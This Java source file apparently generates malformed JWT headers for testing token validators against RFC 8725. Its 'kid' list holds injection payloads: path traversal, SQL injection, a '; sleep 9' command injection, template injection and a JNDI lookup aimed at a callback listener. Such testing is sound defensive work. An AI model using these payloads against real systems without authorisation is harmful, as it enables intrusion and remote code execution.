package dev.latchkey.attack;

import java.util.List;

/**
 * Other types, ids that are more than ids, members that ask for something, and headers
 * that say the same in other words (RFC 8725, 2.8, 2.9, 3.9 to 3.11).
 */
final class HeaderAttacks {

	private static final List<String> TYPES = List.of("JWT", "jwt", "AT+JWT", "at+JWT", "application/at+jwt", "",
			"at+jwt ", "at+jwt;a=b", "logout+jwt", "dpop+jwt", "secevent+jwt", "token-introspection+jwt", "JOSE",
			"JOSE+JSON", "at\\u002bjwt");

	private static final List<String> MEMBERS = List.of("\"crit\":[]", "\"crit\":null", "\"crit\":\"exp\"",
			"\"crit\":[\"exp\"]", "\"crit\":[\"exp\"],\"exp\":1", "\"crit\":[\"alg\"]", "\"crit\":[\"kid\",\"kid\"]",
			"\"crit\":[\"new\"],\"new\":1", "\"b64\":false", "\"b64\":false,\"crit\":[\"b64\"]", "\"b64\":true",
			"\"cty\":\"JWT\"", "\"cty\":\"json\"", "\"cty\":\"at+jwt\"", "\"x5c\":[\"AAAA\"]", "\"x5t\":\"AAAA\"",
			"\"x5t#S256\":\"AAAA\"", "\"nonce\":\"AAAA\"", "\"iss\":\"latchkey\"", "\"typ\":\"at+jwt\"",
			"\"kid\":\"AAAAAAAAAAAAAAAAAAAAAA\"", "\"a\":" + "[".repeat(900) + "]".repeat(900), "\"a\":1e99999999",
			"\"a\":" + "1".repeat(1500), "\"a\":NaN", "\"a\":\"\\ud800\"", "\"\":\"\"");

	private HeaderAttacks() {
	}

	static void add(Attacks attacks, Forge forge, String listener) {
		String alg = ",\"alg\":\"" + forge.algorithm() + "\"}";
		String typ = "{\"typ\":\"at+jwt\"";
		for (String type : TYPES) {
			attacks.add("typ '" + type + "'",
					forge.headed("{\"typ\":\"" + type + "\",\"kid\":\"" + forge.kid() + "\"" + alg));
		}
		for (String json : List.of("null", "1", "[\"at+jwt\"]", "{}")) {
			attacks.add("typ is " + json, forge.headed("{\"typ\":" + json + ",\"kid\":\"" + forge.kid() + "\"" + alg));
		}
		for (String kid : List.of("AAAAAAAAAAAAAAAAAAAAAA", "../../../../dev/null", "/proc/sys/kernel/hostname",
				"' or 1=1 --", "x' union select 'AAAA", "; sleep 9", "${7*7}", "", "*", forge.kid() + "\\u0000",
				forge.kid() + "=", " " + forge.kid(), "A".repeat(2000), listener, "${jndi:" + listener + "}")) {
			attacks.add("kid '" + kid.substring(0, Math.min(60, kid.length())) + "'",
					forge.headed(typ + ",\"kid\":\"" + kid + "\"" + alg));
		}
		for (String json : List.of("null", "0", "{}", "[\"" + forge.kid() + "\"]")) {
			attacks.add("kid is " + json, forge.headed(typ + ",\"kid\":" + json + alg));
		}
		attacks.add("no kid", forge.headed(typ + alg));
		attacks.add("no typ", forge.headed("{\"kid\":\"" + forge.kid() + "\"" + alg));
		MEMBERS.forEach((member) -> attacks.add("header with " + member.substring(0, Math.min(60, member.length())),
				forge.headedAlso(member)));
		spellings(attacks, forge);
	}

	private static void spellings(Attacks attacks, Forge forge) {
		String ours = forge.headerMembers();
		attacks.add("header in another order", forge
			.headed("{\"alg\":\"" + forge.algorithm() + "\",\"typ\":\"at+jwt\",\"kid\":\"" + forge.kid() + "\"}"));
		attacks.add("header with a space", forge.headed("{ " + ours + "}"));
		attacks.add("header with a line", forge.headed("{" + ours + "}\n"));
		attacks.add("header with a byte order mark", forge.headed("\ufeff{" + ours + "}"));
		attacks.add("header with something behind", forge.headed("{" + ours + "}{}"));
		attacks.add("header with a comma behind", forge.headed("{" + ours + ",}"));
		attacks.add("header with a comment", forge.headed("{" + ours + "/**/}"));
		attacks.add("header in single quotes", forge.headed("{" + ours.replace('"', '\'') + "}"));
		attacks.add("header that is a list", forge.headed("[" + ours + "]"));
		attacks.add("header in a list", forge.headed("[{" + ours + "}]"));
		attacks.add("header that is no JSON", forge.headed("at+jwt"));
		attacks.add("header that is null", forge.headed("null"));
		attacks.add("header that is empty", forge.headed("{}"));
		attacks.add("header with escapes", forge.headed(forge.header().replace("\"alg\"", "\"\\u0061lg\"")));
		attacks.add("claims for a header", forge.part(1) + "." + forge.part(1) + "." + forge.part(2));
	}

}
